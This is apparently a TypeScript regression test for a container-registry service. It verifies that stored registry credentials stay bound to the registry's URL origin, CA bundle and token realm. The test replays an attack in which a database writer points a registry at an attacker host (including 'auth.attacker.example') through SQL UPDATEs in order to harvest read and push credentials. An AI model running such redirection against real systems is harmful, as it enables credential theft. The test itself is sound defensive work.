// Sealed registry credentials are bound to the registry's URL origin and pinned token realm. Found by review: a
// database writer (even the least-privileged app role) ran `UPDATE registries SET url = 'http://attacker'`, and the
// next checkpoint push or verification answered the attacker's 401 Basic challenge with the sealed read and push
// credentials (they were sealed for the registry's id and purpose only; the app's own update path clears them when
// the origin changes, but SQL does not go through it).
import pg from "pg";
import { selfSignedClientCert } from "../../../scripts/test-harness/client-cert";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db, disconnectDb } from "../../db";
import { resetEnvCache } from "../../env";
import { fakeServer, json, type FakeServer } from "../../oci/testdata/fake-server";
import { seal } from "../../signing/keys/sealed";
import type { Actor } from "../actor";
import { recordAuditEvent } from "../audit/append-audit-event";
import { makeAuditCheckpoint } from "../audit/make-audit-checkpoint";
import { verifyAuditCheckpoints } from "../audit/verify-audit-checkpoints";
import { masterKey } from "../keys/master-key";
import { confirmRegistryRealm } from "./confirm-registry-realm";
import { createRegistry } from "./create-registry";
import { isLegacySealedCredentials } from "./credentials";
import { resealLegacyRegistryCredentials } from "./reseal-legacy-credentials";
import { registryClient, resolveRegistry } from "./resolve-registry";
import { testRegistryConnection } from "./test-registry-connection";
import { updateRegistry } from "./update-registry";

const cli: Actor = { kind: "cli", label: "credentials-binding-test" };
const read = { username: "auditor", password: "s3cret-read" };
const push = { username: "pusher", password: "s3cret-push" };
const REPO = "imprimatur/audit-binding";
let sql: pg.Client;
let attacker: FakeServer;

const decoded = (s: FakeServer) =>
  s.requests.flatMap((r) => (r.authorization ? [Buffer.from(r.authorization.replace(/^Basic /, ""), "base64").toString()] : []));
/** Whether a client for the registry can be made (its credentials open); nothing is sent. */
const opens = async (name: string, purpose: "read" | "push") => registryClient(await resolveRegistry(name), purpose) instanceof Object;
const MISMATCH = /the stored (read|push) credentials do not match its URL .*enter the credentials again/;

beforeAll(async () => {
  sql = new pg.Client({ connectionString: process.env.DATABASE_URL });
  await sql.connect();
  // The attacker's host asks for Basic credentials on every request.
  attacker = await fakeServer((_req, res) => json(res, 401, {}, { "www-authenticate": 'Basic realm="x"' }));
  await recordAuditEvent({ actor: cli, action: "request.denied", outcome: "denied", detail: { status: 403, reason: "something to checkpoint" } });
});
afterAll(async () => {
  await attacker.close();
  await sql.end();
  await disconnectDb();
});

describe("registry credentials bound to the registry's URL", () => {
  it("a URL changed in SQL makes them unusable: verification, checkpoint push and test connection fail, nothing reaches the new host", async () => {
    await createRegistry({ actor: cli, input: { name: "audit2", url: process.env.REGISTRY_URL!, readCredentials: read, pushCredentials: push } });
    // Usable where they were given.
    await expect(opens("audit2", "push")).resolves.toBe(true);

    // A database writer (scripts/sql/app-role.sql grants even imprimatur_app UPDATE on registries): one UPDATE, no master key.
    await sql.query("UPDATE registries SET url = $1 WHERE name = 'audit2'", [attacker.url]);
    const v = await verifyAuditCheckpoints({ actor: cli, registry: "audit2", repository: REPO });
    const cp = await makeAuditCheckpoint({ actor: cli, force: true, registry: "audit2", repository: REPO });
    const test = await testRegistryConnection({ actor: cli, name: "audit2" }).catch((e: unknown) => e);
    // On the old code: ["auditor:s3cret-read", "pusher:s3cret-push", …].
    expect(decoded(attacker)).toEqual([]);
    expect(attacker.requests).toEqual([]);
    expect(v.gaps.join("\n")).toMatch(MISMATCH);
    expect(cp).toMatchObject({ status: "pending", error: expect.stringMatching(MISMATCH) });
    expect(test).toMatchObject({ code: "CONFLICT", field: "readCredentials", message: expect.stringMatching(MISMATCH) });

    // What is bound is the origin: a path changed on the registry's own origin still opens.
    await sql.query("UPDATE registries SET url = $1 WHERE name = 'audit2'", [`${process.env.REGISTRY_URL}/v2-mirror`]);
    await expect(opens("audit2", "push")).resolves.toBe(true);
  });

  it("a CA bundle changed in SQL makes them unusable too; one changed through the app keeps them", async () => {
    // Found by review of the URL binding: a CA of one's own in ca_bundle, with a DNS answer or route of one's own, would
    // receive the credentials at the same origin.
    const ca = () => selfSignedClientCert("/CN=ca").pem;
    await createRegistry({ actor: cli, input: { name: "ca-bound", url: process.env.REGISTRY_URL!, readCredentials: read, pushCredentials: push } });
    await sql.query("UPDATE registries SET ca_bundle = $1 WHERE name = 'ca-bound'", [ca()]);
    await expect(opens("ca-bound", "read")).rejects.toMatchObject({ code: "CONFLICT", message: expect.stringMatching(MISMATCH) });
    await sql.query("UPDATE registries SET ca_bundle = NULL WHERE name = 'ca-bound'");
    await expect(opens("ca-bound", "read")).resolves.toBe(true);
    await updateRegistry({ actor: cli, name: "ca-bound", input: { caBundle: ca() } });
    await expect(opens("ca-bound", "push")).resolves.toBe(true);
  });

  it("a URL change through the app with new credentials works, and they go to the new host", async () => {
    await createRegistry({ actor: cli, input: { name: "moved", url: process.env.REGISTRY_URL!, readCredentials: read, pushCredentials: push } });
    const moved = await updateRegistry({ actor: cli, name: "moved", input: { url: attacker.url, readCredentials: { username: "new", password: "new-read" } } });
    expect(moved).toMatchObject({ readCredentials: "set", pushCredentials: null });
    const before = attacker.requests.length;
    const t = await testRegistryConnection({ actor: cli, name: "moved" });
    expect(t.result).toMatchObject({ ok: false, stage: "auth", credentialsTried: true });
    expect(decoded({ ...attacker, requests: attacker.requests.slice(before) })).toContain("new:new-read");

    // A path-only change keeps them (sealed again, as the realm is reset): still usable.
    await updateRegistry({ actor: cli, name: "moved", input: { url: `${attacker.url}/prefix` } });
    await expect(opens("moved", "read")).resolves.toBe(true);
  });

  it("they are bound to the pinned token realm too: recorded and confirmed realms re-seal them, a realm set in SQL does not", async () => {
    let realmPath = "/token";
    const tokens: string[] = [];
    const s = await fakeServer((req, res, seen) => {
      if (req.url?.startsWith("/token") || req.url?.startsWith("/other")) {
        if (seen.authorization) tokens.push(`${req.url.split("?")[0]} ${Buffer.from(seen.authorization.replace(/^Basic /, ""), "base64").toString()}`);
        return json(res, 200, { token: "t" });
      }
      return seen.authorization === "Bearer t"
        ? json(res, 200, {})
        : json(res, 401, {}, { "www-authenticate": `Bearer realm="${s.url}${realmPath}",service="r"` });
    });
    try {
      await createRegistry({ actor: cli, input: { name: "bearer", url: s.url, readCredentials: read } });
      const first = await testRegistryConnection({ actor: cli, name: "bearer" });
      expect(first.registry.tokenRealm).toBe(`${s.url}/token`);
      expect(tokens).toEqual([`/token ${read.username}:${read.password}`]);
      await registryClient(await resolveRegistry("bearer")).testConnection();

      // The registry names another realm: held as pending, confirmed by an admin, credentials follow.
      realmPath = "/other";
      const pending = await testRegistryConnection({ actor: cli, name: "bearer" });
      expect(pending.registry.pendingRealm).toBe(`${s.url}/other`);
      await confirmRegistryRealm({ actor: cli, name: "bearer", realm: `${s.url}/other` });
      expect(await registryClient(await resolveRegistry("bearer")).testConnection()).toMatchObject({ ok: true });
      expect(tokens.at(-1)).toBe(`/other ${read.username}:${read.password}`);

      // A database writer pins the realm of their choice: the credentials no longer open.
      await sql.query("UPDATE registries SET token_realm = 'https://auth.attacker.example/token' WHERE name = 'bearer'");
      await expect(opens("bearer", "read")).rejects.toThrow(MISMATCH);
    } finally {
      await s.close();
    }
  });

  it("the default registry's credentials follow REGISTRY_URL (the operator's), not a URL written in SQL", async () => {
    const before = attacker.requests.length;
    await resolveRegistry("default");
    await updateRegistry({ actor: cli, name: "default", input: { readCredentials: read } });
    await expect(opens("default", "read")).resolves.toBe(true);
    // Written in SQL: put back to REGISTRY_URL on the next read, and the credentials (sealed for it) still open.
    await sql.query("UPDATE registries SET url = $1 WHERE name = 'default'", [attacker.url]);
    await expect(opens("default", "read")).resolves.toBe(true);
    expect((await db.registry.findUniqueOrThrow({ where: { name: "default" } })).url).toBe(process.env.REGISTRY_URL!.replace(/\/+$/, ""));
    // The operator moves the registry (the demo's may come back on another port): the credentials are sealed for it.
    const was = process.env.REGISTRY_URL!;
    process.env.REGISTRY_URL = attacker.url;
    resetEnvCache();
    try {
      await expect(opens("default", "read")).resolves.toBe(true);
    } finally {
      process.env.REGISTRY_URL = was;
      resetEnvCache();
    }
    await expect(opens("default", "read")).resolves.toBe(true);
    expect(attacker.requests.slice(before)).toEqual([]);
  });

  it("credentials sealed before the binding keep working, are bound at start-up, and then a URL changed in SQL fails", async () => {
    const r = await db.registry.create({ data: { name: "legacy", url: process.env.REGISTRY_URL! } });
    const old = (purpose: string, c: object) => seal(masterKey(), Buffer.from(JSON.stringify(c)), `registry:${r.id}:${purpose}`);
    await db.registry.update({
      where: { id: r.id },
      data: { readCredentials: new Uint8Array(old("read", read)), pushCredentials: new Uint8Array(old("push", push)) },
    });
    await expect(opens("legacy", "push")).resolves.toBe(true);

    const { resealed, failed } = await resealLegacyRegistryCredentials();
    expect({ resealed, failed }).toEqual({ resealed: ["legacy"], failed: [] });
    const row = await db.registry.findUniqueOrThrow({ where: { id: r.id } });
    expect([isLegacySealedCredentials(row.readCredentials!), isLegacySealedCredentials(row.pushCredentials!)]).toEqual([false, false]);
    const ev = await db.auditEvent.findFirstOrThrow({ where: { action: "registry.credentials.reseal", target: "legacy" } });
    expect(ev.detail).toEqual({ url: process.env.REGISTRY_URL!.replace(/\/+$/, ""), tokenRealm: null, credentials: ["read", "push"] });
    await expect(opens("legacy", "push")).resolves.toBe(true);
    expect(await resealLegacyRegistryCredentials()).toEqual({ resealed: [], failed: [] });

    await sql.query("UPDATE registries SET url = $1 WHERE name = 'legacy'", [attacker.url]);
    await expect(opens("legacy", "push")).rejects.toThrow(MISMATCH);
  });
});
